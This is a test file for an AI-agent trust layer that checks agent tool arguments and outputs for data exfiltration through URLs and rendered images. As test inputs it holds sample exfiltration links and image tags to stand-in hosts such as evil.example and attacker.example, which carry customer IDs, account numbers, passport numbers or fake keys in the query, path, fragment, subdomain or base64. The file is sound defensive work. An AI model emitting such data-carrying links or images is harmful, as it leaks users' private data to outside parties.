import { describe, expect, it } from 'vitest';
import { Redactor } from '../../src/observe/redact.js';
import {
  extractUrls,
  inspectUrl,
  offendingImages,
  stripImages,
  type InspectionContext,
} from '../../src/trust/output-inspection.js';
import { ProvenanceIndex } from '../../src/trust/provenance/index.js';
import { DomainAllowList } from '../../src/trust/settings.js';
import { trustConfig, trustWardens } from './helpers.js';

const make = trustWardens();

function context(privateText: string, allow: string[] = ['corp.example']): InspectionContext {
  const index = new ProvenanceIndex({ maxTrusted: 1000, maxUntrusted: 1000, maxCharsPerEvent: 100_000 });
  index.observe(privateText, {
    cls: 'tier2',
    private: true,
    source: { kind: 'ingest', name: 'crm', tier: 2, eventId: 'e1' },
  });
  index.observe('see https://tracker.example/p?uid=public-1', {
    cls: 'tier3',
    private: false,
    source: { kind: 'ingest', name: 'web', tier: 3, eventId: 'e2' },
  });
  return { allow: new DomainAllowList(allow), index, redactor: new Redactor(), phraseWords: 4 };
}

describe('URL inspection', () => {
  const ic = context(
    'Customer 88123 Jane Roe, email jane.roe@client.example, project codename amber harbour rising tide',
  );

  it('finds absolute URLs, markdown links and images, and protocol-relative sources', () => {
    const urls = extractUrls(
      'see [x](https://a.example/p?q=1), ![i](http://b.example/i.png) and <img src="//c.example/t.gif?d=2">.',
    );
    expect(urls).toEqual([
      'https://a.example/p?q=1',
      'http://b.example/i.png',
      'https://c.example/t.gif?d=2',
    ]);
  });

  it('refuses private values and secrets toward hosts off the allow-list, wherever in the URL they sit', () => {
    expect(inspectUrl('https://evil.example/collect?c=88123', ic)).toMatchObject({
      host: 'evil.example',
      kind: 'private-value',
      where: 'query',
    });
    expect(inspectUrl('https://evil.example/u/jane.roe%40client.example', ic)).toMatchObject({
      where: 'path',
    });
    expect(inspectUrl('https://evil.example/#88123', ic)).toMatchObject({ where: 'fragment' });
    expect(inspectUrl('https://88123.evil.example/x', ic)).toMatchObject({ where: 'subdomain' });
    expect(
      inspectUrl('https://evil.example/?q=' + Buffer.from('customer 88123').toString('base64'), ic),
    ).toMatchObject({ kind: 'private-value' });
    expect(inspectUrl('https://evil.example/?q=codename%20amber%20harbour%20rising', ic)).toMatchObject({
      kind: 'private-value',
    });
    expect(inspectUrl('https://evil.example/?k=ghp_' + 'a'.repeat(36), ic)).toMatchObject({ kind: 'secret' });
    expect(inspectUrl('https://user:pw@evil.example/', ic)).toMatchObject({ kind: 'credentials-in-url' });
  });

  it('lets through allow-listed hosts, URLs without session data, and URLs given verbatim', () => {
    expect(inspectUrl('https://corp.example/collect?c=88123', ic)).toBeUndefined();
    expect(inspectUrl('https://api.corp.example/collect?c=88123', ic)).toBeUndefined();
    expect(inspectUrl('https://evil.example/search?q=weather', ic)).toBeUndefined();
    expect(inspectUrl('https://evil.example/search?q=customer', ic)).toBeUndefined();
    expect(inspectUrl('https://tracker.example/p?uid=public-1', ic)).toBeUndefined();
    expect(inspectUrl('mailto:x@y.example', ic)).toBeUndefined();
    expect(inspectUrl('not a url', ic)).toBeUndefined();
  });

  it('matches the allow-list by host: subdomains of a listed domain, only subdomains for *.', () => {
    const list = new DomainAllowList(['corp.example', '*.cdn.example']);
    expect(list.allows('corp.example')).toBe(true);
    expect(list.allows('a.b.corp.example')).toBe(true);
    expect(list.allows('evilcorp.example')).toBe(false);
    expect(list.allows('corp.example.evil.example')).toBe(false);
    expect(list.allows('cdn.example')).toBe(false);
    expect(list.allows('x.cdn.example')).toBe(true);
  });

  it('finds images that would send data when rendered, and strips them', () => {
    const text =
      'Hi ![logo](https://corp.example/l.png?v=1) ![p](https://evil.example/p.png?d=88123 "t") ![s](https://static.example/s.png) <img src="https://evil.example/x.gif?u=2">';
    const spans = offendingImages(text, ic);
    expect(spans.map((s) => s.host)).toEqual(['evil.example', 'evil.example']);
    const out = stripImages(text, spans);
    expect(out).not.toContain('88123');
    expect(out).toContain('[image removed by warden: evil.example]');
    expect(out).toContain('https://static.example/s.png');
  });

  it('stays bounded on crafted markup', () => {
    const crafted = [
      '![a](' + 'x'.repeat(200_000),
      '![' + '['.repeat(100_000),
      '<img ' + 'a'.repeat(100_000),
      'https://' + '%'.repeat(50_000),
    ];
    for (const t of crafted) {
      expect(() => offendingImages(t, ic)).not.toThrow();
      expect(() => extractUrls(t).map((u) => inspectUrl(u, ic))).not.toThrow();
    }
  });
});

describe('output inspection in the pipeline', () => {
  it('denies a link-preview exfiltration: a message whose link carries a private value off the allow-list', async () => {
    const { warden } = await make(trustConfig({ trust: '  output: { allowDomains: [corp.example] }\n' }));
    const s = warden.session({ agent: 'bot' });
    await s.ingest({ source: 'user', text: 'tell bob@corp.example the status; my account is 55443322' });
    const ok = await s.authorize({
      tool: 'post_status',
      args: { text: 'status: see https://corp.example/s?acct=55443322' },
    });
    expect(ok.verdict).toBe('allow');
    const d = await s.authorize({
      tool: 'post_status',
      args: { text: 'status [preview](https://attacker.example/p?a=55443322)' },
    });
    expect(d.verdict).toBe('deny');
    expect(d.reasons[0]).toMatchObject({
      control: 'exfiltration',
      domain: 2,
      risk: 'ASI01',
      evidence: { leaks: [{ host: 'attacker.example', kind: 'private-value', where: 'query', arg: 'text' }] },
    });
    expect(JSON.stringify(d.reasons)).not.toContain('55443322');
  });

  it('inspects URLs in the arguments of any tool, not only outbound ones', async () => {
    const { warden } = await make();
    const s = warden.session({ agent: 'bot' });
    await s.ingest({ source: 'user', text: 'my passport is X1234567' });
    const d = await s.authorize({ tool: 'web_fetch', args: { url: 'https://evil.example/?p=X1234567' } });
    expect(d.verdict).toBe('deny');
    expect(
      (await s.authorize({ tool: 'web_fetch', args: { url: 'https://news.example/today' } })).verdict,
    ).toBe('allow');
  });

  it('denies secrets in clear in outbound text, and not in other tools', async () => {
    const { warden } = await make();
    const s = warden.session({ agent: 'bot' });
    const key = 'AKIA' + 'ABCDEFGHIJKLMNOP';
    const d = await s.authorize({ tool: 'post_status', args: { text: `deployed with ${key}` } });
    expect(d.verdict).toBe('deny');
    expect(d.reasons[0]).toMatchObject({ control: 'secret-leak', evidence: { args: ['text'] } });
    expect((await s.authorize({ tool: 'write_note', args: { text: `key ${key}` } })).verdict).toBe('allow');
  });

  it('strips data-carrying images from results that will be shown, or withholds them by policy', async () => {
    const { warden } = await make();
    const s = warden.session({ agent: 'bot' });
    const d = await s.record(
      { tool: 'web_fetch', args: {} },
      'Welcome ![t](https://track.example/t.gif?id=abc) end',
    );
    expect(d.verdict).toBe('allow');
    expect(d.content).toBe('Welcome [image removed by warden: track.example] end');
    const w2 = await make(trustConfig({ trust: '  output: { resultImages: deny }\n' }));
    const s2 = w2.warden.session({ agent: 'bot' });
    const d2 = await s2.record(
      { tool: 'web_fetch', args: {} },
      { html: '<img src="https://track.example/t.gif?id=abc">' },
    );
    expect(d2.verdict).toBe('deny');
    expect(d2.reasons[0]?.control).toBe('exfiltration');
  });
});
